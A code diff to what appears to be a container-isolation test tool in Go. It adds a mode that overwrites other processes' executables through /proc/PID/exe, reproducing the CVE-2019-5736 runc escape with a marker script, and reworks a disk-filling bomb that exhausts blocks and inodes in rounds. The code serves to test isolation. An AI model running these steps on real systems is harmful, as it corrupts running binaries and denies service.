@@ -3,7 +3,7 @@
 // that the attack ran and what it reached. It never stops at the first
 // failure: every step is tried.
 //
-//	attack exe DURATION              CVE-2019-5736: open other processes' /proc/PID/exe for writing
+//	attack exe DURATION [overwrite]  CVE-2019-5736: open other processes' /proc/PID/exe for writing (and overwrite those not busybox's)
 //	attack fds MARKER                CVE-2024-21626: walk up from every open fd and the cwd looking for MARKER
 //	attack unix LISTFILE             connect to every unix socket in LISTFILE (paths; @abstract names)
 //	attack kernel MAJOR:MINOR TOKEN  raw devices and kernel interfaces of a privileged guest
@@ -37,7 +37,7 @@ func main() {
 	}
 	switch os.Args[1] {
 	case "exe":
-		exe(duration(os.Args[2]))
+		exe(duration(os.Args[2]), len(os.Args) > 3 && os.Args[3] == "overwrite")
 	case "fds":
 		fds(os.Args[2])
 	case "unix":
@@ -69,8 +69,10 @@ func duration(s string) time.Duration {
 
 // exe opens every other process's executable through /proc/PID/exe and
 // tries to truncate and overwrite it, as the runc exploit did with the
-// runtime's binary entering the container, for d.
-func exe(d time.Duration) {
+// runtime's binary entering the container, for d. With overwrite, an
+// executable that is not busybox's (which the test's own execs need) nor
+// the attacker's is overwritten with a script, as the exploit did to runc.
+func exe(d time.Duration, overwrite bool) {
 	self := os.Getpid()
 	seen := map[string]bool{}
 	scanned, writable := 0, 0
@@ -106,9 +108,13 @@ func exe(d time.Duration) {
 				say("EXE-WRITE-OPEN", pid, target, err)
 				continue
 			}
-			w.Close()
 			writable++
 			say("EXE-WRITABLE-FD", pid, target)
+			if overwrite && !strings.Contains(target, "busybox") && !strings.Contains(target, "attack") {
+				_, err := w.Write([]byte("#!/bin/sh\necho gvx-exe-overwritten\n"))
+				say("EXE-OVERWRITE", pid, target, err)
+			}
+			w.Close()
 		}
 	}
 	say("EXE-SCANNED", scanned)
@@ -423,26 +429,38 @@ func bomb(kind string, d time.Duration) {
 		say("BOMB-SPIN-THREADS", n)
 		time.Sleep(time.Until(end))
 	case "disk":
-		f, err := os.Create("/data/fill")
-		n := 0
-		if err == nil {
-			b := make([]byte, 1<<20)
-			for time.Now().Before(end) {
-				if _, err = f.Write(b); err != nil {
+		// Fill the volume's blocks, then its inodes, empty it and again,
+		// until d is over: sustained writes, not one burst.
+		b := make([]byte, 1<<20)
+		mib, files, rounds := 0, 0, 0
+		var err error
+		for rounds == 0 || time.Now().Before(end) {
+			rounds++
+			var f *os.File
+			if f, err = os.Create("/data/fill"); err == nil {
+				for time.Now().Before(end) {
+					if _, err = f.Write(b); err != nil {
+						break
+					}
+					mib++
+				}
+				f.Close()
+			}
+			say("BOMB-DISK-MIB", mib, fmt.Sprintf("err=%v", err))
+			n := 0
+			for ; time.Now().Before(end); n++ {
+				if err = os.WriteFile(fmt.Sprintf("/data/i%d", n), nil, 0o644); err != nil {
 					break
 				}
-				n++
 			}
-			f.Close()
-		}
-		say("BOMB-DISK-MIB", n, fmt.Sprintf("err=%v", err))
-		files := 0
-		for ; time.Now().Before(end); files++ {
-			if err = os.WriteFile(fmt.Sprintf("/data/i%d", files), nil, 0o644); err != nil {
-				break
+			files += n
+			say("BOMB-INODES", files, fmt.Sprintf("err=%v", err))
+			os.Remove("/data/fill")
+			for i := 0; i < n; i++ {
+				os.Remove(fmt.Sprintf("/data/i%d", i))
 			}
 		}
-		say("BOMB-INODES", files, fmt.Sprintf("err=%v", err))
+		say("BOMB-DISK-ROUNDS", rounds)
 	}
 }
 
